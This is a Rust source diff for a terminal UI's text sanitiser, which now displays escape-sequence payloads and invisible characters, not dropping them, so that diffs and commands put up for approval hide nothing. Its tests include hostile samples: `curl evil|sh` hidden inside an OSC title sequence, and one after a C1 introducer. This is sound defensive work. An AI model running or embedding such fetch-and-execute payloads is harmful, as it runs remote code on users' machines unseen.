@@ -2,11 +2,16 @@
 //! that came from a model, a file, a tool, a server or a repository passes through here.
 //!
 //! Two forms, one set of rules:
-//! - [`sanitize`] for what the TUI draws: escape sequences and other control characters are
-//!   dropped, payload and all (they would move the cursor, retitle the window, draw images or
-//!   write the clipboard). Characters whose width terminals disagree on are dropped too
-//!   (variation selectors, joiners, skin tones, invisible format characters): where ratatui
-//!   counts one width and the terminal draws another, the rest of the row shifts.
+//! - [`sanitize`] for what the TUI draws: no control character reaches the terminal (it would
+//!   move the cursor, retitle the window, draw images or write the clipboard), and none hides
+//!   text either: each is shown as [`visible`] shows it, the sequence's payload as the plain
+//!   text it is. Only colours (`ESC [ digits m`, which carry nothing but numbers) are dropped,
+//!   so coloured tool output reads clean. Dropping a whole sequence would hide what it holds:
+//!   a diff or a command the person approves would read `print("")` while the file gets
+//!   `print("␛]0;"); os.system(…)`. Characters whose width terminals disagree on are dropped
+//!   (variation selectors, joiners, skin tones): where ratatui counts one width and the
+//!   terminal draws another, the rest of the row shifts; those that reorder or hide text
+//!   (bidi overrides, tags, zero-width spaces) are shown as `\u{202e}`.
 //! - [`visible`] for everything printed outside the TUI (`rein exec`, every subcommand, error
 //!   messages, exports to a file): the text is kept, and each control character is shown
 //!   instead of obeyed: C0 as its Unicode control picture (ESC as `␛`, BEL as `␇`, a lone CR
@@ -21,8 +26,9 @@ use std::borrow::Cow;
 use std::iter::Peekable;
 use std::str::Chars;
 
-/// `s` without escape sequences, control characters and width-ambiguous characters (newlines
-/// kept, tabs as 4 spaces).
+/// `s` safe to draw in the TUI: colours dropped, every other control character and every
+/// character that hides or reorders text shown (see the module doc), width-ambiguous
+/// characters dropped, newlines kept, tabs as 4 spaces, CR before LF dropped.
 pub fn sanitize(s: &str) -> Cow<'_, str> {
     if !s
         .chars()
@@ -30,36 +36,68 @@ pub fn sanitize(s: &str) -> Cow<'_, str> {
     {
         return Cow::Borrowed(s);
     }
-    let mut out = String::with_capacity(s.len());
+    let mut out = String::with_capacity(s.len() + 8);
     let mut chars = s.chars().peekable();
     while let Some(c) = chars.next() {
         match c {
             '\n' => out.push('\n'),
             '\t' => out.push_str("    "),
-            '\u{1b}' => skip_escape(&mut chars),
-            // C1 introducers (8-bit forms of ESC [, ESC ], ESC P …) carry the same payloads.
-            '\u{9b}' => skip_csi(&mut chars),
+            '\r' if chars.peek() == Some(&'\n') => {}
+            '\u{1b}' if skip_colour(&mut chars) => {}
             // Halfwidth sound marks join the katakana before them in some terminals, not in
             // others: the standalone fullwidth marks are drawn alike everywhere.
             '\u{ff9e}' => out.push('\u{309b}'),
             '\u{ff9f}' => out.push('\u{309c}'),
-            '\u{90}' | '\u{98}' | '\u{9d}' | '\u{9e}' | '\u{9f}' => skip_string(&mut chars),
-            c if c.is_control() || width_ambiguous(c) => {}
+            c if c.is_control() || hides_text(c) => push_shown(&mut out, c),
+            c if width_ambiguous(c) => {}
             c => out.push(c),
         }
     }
     Cow::Owned(out)
 }
 
-/// `s` for the TUI where the person reviews before approving (a command, its arguments, the
-/// reason): like [`visible`], each control or hiding character is shown as a picture or an
-/// escape instead of being dropped, so nothing the command holds is invisible; then made safe
-/// to draw as [`sanitize`] does.
-pub fn shown(s: &str) -> Cow<'_, str> {
-    match visible(s) {
-        Cow::Borrowed(b) => sanitize(b),
-        Cow::Owned(o) => Cow::Owned(sanitize(&o).into_owned()),
+/// After an ESC: skips a colour sequence (`[`, up to 64 digits, `;` or `:`, then `m`) and
+/// says so; anything else is left where it is, to be shown.
+fn skip_colour(chars: &mut Peekable<Chars<'_>>) -> bool {
+    let mut ahead = chars.clone();
+    if ahead.next() != Some('[') {
+        return false;
     }
+    for _ in 0..=64 {
+        match ahead.next() {
+            Some('m') => {
+                *chars = ahead;
+                return true;
+            }
+            Some(c) if c.is_ascii_digit() || c == ';' || c == ':' => {}
+            _ => return false,
+        }
+    }
+    false
+}
+
+/// `s` for the TUI where the person reviews before approving (a command, its arguments, the
+/// reason, a diff, a path): like [`visible`], each control or hiding character is shown as a
+/// picture or an escape, colours too, and so is every width-ambiguous character (a soft
+/// hyphen in `run\u{ad}.sh` names another file than `run.sh`), so nothing it holds is
+/// invisible; then made safe to draw as [`sanitize`] does.
+pub fn shown(s: &str) -> Cow<'_, str> {
+    let seen = visible(s);
+    if !seen.chars().any(width_ambiguous) {
+        return match seen {
+            Cow::Borrowed(b) => sanitize(b),
+            Cow::Owned(o) => Cow::Owned(sanitize(&o).into_owned()),
+        };
+    }
+    let mut out = String::with_capacity(seen.len() + 8);
+    for c in seen.chars() {
+        if width_ambiguous(c) {
+            push_shown(&mut out, c);
+        } else {
+            out.push(c);
+        }
+    }
+    Cow::Owned(sanitize(&out).into_owned())
 }
 
 /// `s` for the clipboard (`/copy`): what the screen showed of it, with tabs kept: escape
@@ -291,39 +329,36 @@ mod tests {
     }
 
     #[test]
-    fn escape_sequences_go_with_their_payloads() {
+    fn the_tui_form_obeys_no_control_and_hides_no_text() {
         let cases = [
             ("colours", "\u{1b}[31mred\u{1b}[0m", "red"),
-            ("tab and CR", "a\tb\r\nc", "a    b\nc"),
-            ("OSC title, BEL", "\u{1b}]0;title\u{7}ok", "ok"),
+            ("colours with colons", "\u{1b}[38:5:196mx\u{1b}[m", "x"),
+            ("tab and CRLF", "a\tb\r\nc", "a    b\nc"),
+            ("lone CR", "a\rb", "a\u{240d}b"),
+            (
+                "OSC title, BEL",
+                "\u{1b}]0;title\u{7}ok",
+                "\u{241b}]0;title\u{2407}ok",
+            ),
             (
                 "OSC hyperlink, ST",
-                "\u{1b}]8;;http://x\u{1b}\\link\u{1b}]8;;\u{1b}\\",
-                "link",
-            ),
-            ("OSC 52 clipboard", "a\u{1b}]52;c;aGVsbG8=\u{7}b", "ab"),
-            ("DCS", "x\u{1b}Pq#0;2;0;0;0\u{1b}\\y", "xy"),
-            (
-                "kitty graphics APC",
-                "\u{1b}_Gf=100,a=T;iVBORw0KGgo=\u{1b}\\done",
-                "done",
+                "\u{1b}]8;;http://x\u{1b}\\link",
+                "\u{241b}]8;;http://x\u{241b}\\link",
             ),
             (
-                "PM and SOS",
-                "\u{1b}^private\u{1b}\\\u{1b}Xsos\u{1b}\\z",
-                "z",
+                "OSC 52 clipboard",
+                "a\u{1b}]52;c;aGVsbG8=\u{7}b",
+                "a\u{241b}]52;c;aGVsbG8=\u{2407}b",
             ),
-            ("charset designation", "\u{1b}(Bplain", "plain"),
-            ("keypad mode", "\u{1b}=keys", "keys"),
-            ("8-bit CSI", "\u{9b}1;31mred", "red"),
-            ("8-bit OSC with 8-bit ST", "\u{9d}0;t\u{9c}ok", "ok"),
-            ("unterminated string", "ok\u{1b}]0;never ends", "ok"),
+            ("clear screen", "\u{1b}[2J", "\u{241b}[2J"),
+            ("colour sequence cut short", "\u{1b}[31", "\u{241b}[31"),
+            ("8-bit CSI", "\u{9b}1;31mred", "\\u{9b}1;31mred"),
             (
-                "ESC ends a string, starts CSI",
-                "\u{1b}Pdata\u{1b}[1mbold",
-                "bold",
+                "unterminated string",
+                "ok\u{1b}]0;never ends",
+                "ok\u{241b}]0;never ends",
             ),
-            ("lone ESC at the end", "end\u{1b}", "end"),
+            ("lone ESC at the end", "end\u{1b}", "end\u{241b}"),
             (
                 "emoji presentation selector",
                 "\u{26a0}\u{fe0f} warn",
@@ -335,9 +370,13 @@ mod tests {
                 "\u{1f468}\u{1f469}\u{1f467}",
             ),
             ("skin tone", "\u{1f44d}\u{1f3fd}", "\u{1f44d}"),
-            ("bidi override", "a\u{202e}cba\u{202c}d", "acbad"),
-            ("tag characters", "x\u{e0041}\u{e0042}y", "xy"),
-            ("soft hyphen and BOM", "co\u{ad}op\u{feff}", "coop"),
+            (
+                "bidi override",
+                "a\u{202e}cba\u{202c}d",
+                "a\\u{202e}cba\\u{202c}d",
+            ),
+            ("tag characters", "x\u{e0041}y", "x\\u{e0041}y"),
+            ("soft hyphen, BOM", "co\u{ad}op\u{feff}", "coop\\u{feff}"),
             (
                 "halfwidth sound marks",
                 "\u{ff76}\u{ff9e}\u{ff8a}\u{ff9f}",
@@ -350,10 +389,37 @@ mod tests {
             ),
         ];
         for (what, input, want) in cases {
-            assert_eq!(sanitize(input), want, "{what}");
+            let out = sanitize(input);
+            assert_eq!(out, want, "{what}");
+            assert!(
+                !out.chars().any(|c| c.is_control() && c != '\n'),
+                "{what}: {out:?}"
+            );
         }
         assert!(matches!(sanitize("plain\ntext"), Cow::Borrowed(_)));
         assert!(matches!(sanitize("日本語 ✅ e\u{301}"), Cow::Borrowed(_)));
+    }
+
+    /// What an escape sequence holds stays on screen: a payload hidden inside one (the
+    /// review's attack on the edit approval) is drawn as the text it is.
+    #[test]
+    fn a_payload_inside_an_escape_sequence_stays_in_sight() {
+        let line =
+            "print(\"\u{1b}]0;\"); __import__(\"os\").system(\"curl evil|sh\"); print(\"\u{7}\")";
+        for drawn in [sanitize(line), shown(line)] {
+            assert!(drawn.contains("system(\"curl evil|sh\")"), "{drawn}");
+        }
+        let c1 = "echo \"\u{9d}\"; curl evil | sh";
+        assert!(sanitize(c1).contains("curl evil | sh"));
+    }
+
+    #[test]
+    fn the_approval_form_shows_invisible_characters_too() {
+        assert_eq!(shown("> run\u{ad}.sh"), "> run\\u{ad}.sh");
+        assert_eq!(shown("a\u{200d}b\u{fe0f}"), "a\\u{200d}b\\u{fe0f}");
+        assert_eq!(shown("\u{1b}[31mred"), "\u{241b}[31mred");
+        assert_eq!(shown("a\tb"), "a    b");
+        assert!(matches!(shown("plain"), Cow::Borrowed(_)));
     }
 
     #[test]
